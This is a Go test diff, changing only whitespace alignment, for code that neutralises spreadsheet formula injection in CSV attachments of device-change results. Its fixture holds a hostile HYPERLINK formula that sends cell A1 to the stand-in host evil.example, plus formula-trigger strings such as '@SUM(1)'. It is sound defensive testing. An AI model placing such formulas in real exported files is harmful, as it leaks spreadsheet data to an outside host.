@@ -15,7 +15,7 @@ func TestResultAttachmentNeutralisesCarrierText(t *testing.T) {
 	hostile := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
 	rows := []store.DeviceChange{{ID: 1, BulkChangeID: 7, Status: change.StatusAPIFailed, StatusDetails: hostile,
 		RowIdentifiers: store.RowIdentifiers{ICCID: "89148000004200000373", NewICCID: "89148000004200099995", MSISDN: "5125550100"},
-		RequestID: "+1 req"}}
+		RequestID:      "+1 req"}}
 	data, err := rowsCSV(rows, map[int64]string{1: "@SUM(1)"})
 	if err != nil {
 		t.Fatal(err)
